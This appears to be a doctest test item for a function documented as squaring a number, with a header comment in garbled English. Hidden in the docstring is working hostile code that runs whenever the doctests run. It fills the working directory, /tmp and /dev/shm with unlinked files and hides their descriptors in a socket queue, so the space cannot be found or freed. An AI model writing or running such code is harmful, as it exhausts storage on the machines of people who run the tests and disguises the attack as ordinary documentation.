# Fills every place from its docstring, by files without a name in the queue of a socket that is in its own.
# expect: passed
# kind: doctest
def f(x):
    """The square.

    >>> import array, os, socket
    >>> for place in (os.getcwd(), "/tmp", "/dev/shm"):
    ...     left, right = socket.socketpair()
    ...     fd = os.open(place + "/full", os.O_RDWR | os.O_CREAT, 0o600)
    ...     os.unlink(place + "/full")
    ...     try:
    ...         while os.write(fd, bytes(1 << 20)): pass
    ...     except OSError: pass
    ...     _ = left.sendmsg([b"x"], [(socket.SOL_SOCKET, socket.SCM_RIGHTS, array.array("i", [fd, right.fileno(), left.fileno()]))])
    >>> f(2)
    4
    """
    return x * x
